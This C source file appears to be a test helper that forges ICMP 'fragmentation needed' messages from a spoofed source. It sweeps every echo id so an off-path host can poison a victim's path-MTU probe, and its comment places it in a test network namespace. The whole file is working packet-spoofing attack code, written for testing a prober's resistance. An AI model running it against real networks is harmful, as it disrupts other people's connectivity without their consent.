/* SPDX-License-Identifier: Apache-2.0 */
/* icmp-forge FROM VICTIM PROBED MTU: an off-path host on the rail forging the
 * probe's verdict.  It never sees the victim's echoes; it
 * sends ICMP "fragmentation needed" (next-hop MTU 1500) from FROM to VICTIM,
 * each quoting an echo request VICTIM -> PROBED of MTU bytes with every
 * 16-bit echo id, sequence number 1 (the first echo's), and the payload a predictable
 * prober would send (byte i of the ICMP message = i), the quote 64 bytes
 * long with the checksum such an echo would carry.  It sweeps the ids again
 * and again until it is killed (SIGTERM), so any id the victim picks is hit
 * within a sweep.  Run it in a network namespace of the test.  */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define QUOTE_ICMP 64 /* bytes of the quoted echo after its IP header */
#define BATCH 64

static volatile sig_atomic_t stop;

static void
on_term (int sig)
{
  (void) sig;
  stop = 1;
}

static uint32_t
sum16 (const uint8_t *p, size_t n, uint32_t s)
{
  for (size_t i = 0; i + 1 < n; i += 2)
    s += (uint32_t) (p[i] << 8 | p[i + 1]);
  if (n & 1)
    s += (uint32_t) p[n - 1] << 8;
  while (s >> 16)
    s = (s & 0xffff) + (s >> 16);
  return s;
}

static uint16_t
csum (const uint8_t *p, size_t n)
{
  return (uint16_t) ~sum16 (p, n, 0);
}

int
main (int argc, char **argv)
{
  struct in_addr from, victim, probed;
  struct sockaddr_in to = { .sin_family = AF_INET };
  struct sockaddr_in me = { .sin_family = AF_INET };
  unsigned mtu;
  uint8_t *echo, pkt[8 + 20 + QUOTE_ICMP], pkts[BATCH][8 + 20 + QUOTE_ICMP];
  size_t echo_len;
  uint32_t payload_sum;
  unsigned long sent = 0;
  int fd;

  if (argc != 5 || inet_pton (AF_INET, argv[1], &from) != 1
      || inet_pton (AF_INET, argv[2], &victim) != 1 || inet_pton (AF_INET, argv[3], &probed) != 1
      || (mtu = (unsigned) strtoul (argv[4], NULL, 10)) < 100 || mtu > 65535)
    {
      fprintf (stderr, "usage: icmp-forge FROM VICTIM PROBED MTU\n");
      return 2;
    }
  signal (SIGTERM, on_term);
  fd = socket (AF_INET, SOCK_RAW, IPPROTO_ICMP);
  me.sin_addr = from;
  if (fd < 0 || bind (fd, (struct sockaddr *) &me, sizeof (me)) < 0)
    {
      perror ("icmp-forge: raw socket");
      return 1;
    }
  to.sin_addr = victim;
  echo_len = mtu - 20;
  echo = calloc (1, echo_len);
  if (! echo)
    return 1;
  for (size_t i = 8; i < echo_len; i++)
    echo[i] = (uint8_t) i;
  echo[0] = 8;
  payload_sum = sum16 (echo + 8, echo_len - 8, 0);

  /* The fixed part: type 3 code 4, next-hop MTU 1500, the quoted IP header
   * (VICTIM -> PROBED, DF, ICMP, total length MTU).  */
  memset (pkt, 0, sizeof (pkt));
  pkt[0] = 3;
  pkt[1] = 4;
  pkt[6] = 1500 >> 8;
  pkt[7] = 1500 & 0xff;
  {
    uint8_t *ip = pkt + 8;
    uint16_t s;
    ip[0] = 0x45;
    ip[2] = (uint8_t) (mtu >> 8);
    ip[3] = (uint8_t) mtu;
    ip[6] = 0x40; /* DF */
    ip[8] = 63;
    ip[9] = IPPROTO_ICMP;
    memcpy (ip + 12, &victim, 4);
    memcpy (ip + 16, &probed, 4);
    s = csum (ip, 20);
    ip[10] = (uint8_t) (s >> 8);
    ip[11] = (uint8_t) s;
  }
  /* In batches of BATCH messages a call (sendmmsg): the sweep is what
   * bounds how soon an id is hit.  */
  while (! stop)
    for (unsigned id = 0; id < 65536 && ! stop; id += BATCH)
      {
        struct mmsghdr m[BATCH];
        struct iovec v[BATCH];
        int r;
        for (unsigned k = 0; k < BATCH; k++)
          {
            uint8_t *p = pkts[k], *q = p + 28;
            unsigned seq = 1, i = id + k;
            uint16_t s;
            memcpy (p, pkt, 28);
            echo[2] = echo[3] = 0;
            echo[4] = (uint8_t) (i >> 8);
            echo[5] = (uint8_t) i;
            echo[6] = (uint8_t) (seq >> 8);
            echo[7] = (uint8_t) seq;
            s = (uint16_t) ~sum16 (echo, 8, payload_sum);
            echo[2] = (uint8_t) (s >> 8);
            echo[3] = (uint8_t) s;
            memcpy (q, echo, QUOTE_ICMP);
            s = csum (p, sizeof (pkt));
            p[2] = (uint8_t) (s >> 8);
            p[3] = (uint8_t) s;
            v[k] = (struct iovec){ .iov_base = p, .iov_len = sizeof (pkt) };
            m[k] = (struct mmsghdr){
              .msg_hdr
              = { .msg_name = &to, .msg_namelen = sizeof (to), .msg_iov = &v[k], .msg_iovlen = 1 }
            };
          }
        r = sendmmsg (fd, m, BATCH, 0);
        if (r > 0)
          sent += (unsigned long) r;
      }
  fprintf (stderr, "icmp-forge: %lu forged messages\n", sent);
  return 0;
}
